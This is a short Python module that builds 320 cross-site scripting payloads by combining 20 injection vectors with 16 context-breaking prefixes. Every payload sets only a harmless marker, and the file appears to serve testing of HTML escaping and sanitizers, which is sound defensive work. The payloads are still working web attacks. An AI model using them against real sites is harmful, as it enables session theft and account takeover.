"""Strings that would run as code where a page does not take them as text: 320 of them, made from parts."""

from __future__ import annotations

from itertools import product

RUN = "window.pwned=1"
_ACTIONS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<a href='javascript:{RUN}' autofocus onfocus={RUN}>x</a>",
    f"<style>@keyframes k{{}}</style><b style='animation-name:k' onanimationstart={RUN}>x</b>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<link rel=stylesheet href='javascript:{RUN}' onerror={RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<template><script>{RUN}</script></template><script>{RUN}</script>",
    f"<div hx-on:load='{RUN}' hx-get='/' hx-trigger='load'>x</div>",
    f"<button formaction='javascript:{RUN}' autofocus onfocus={RUN}>x</button>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<base href='javascript:{RUN}//'>",
)
_OPENINGS = (
    "", "\"'>", "'\">", "</title>", "</textarea>", "</script>", "</style>", "--><!-- ", "]]>", "</text></svg>",
    "</bdi></blockquote>", "\" autofocus x=\"", "{{7*7}}{% raw %}", "\u202e", "\x00\u200b", "&lt;/p&gt;",
)  # fmt: skip

STRINGS = tuple(opening + action for action, opening in product(_ACTIONS, _OPENINGS))
assert len(set(STRINGS)) >= 300
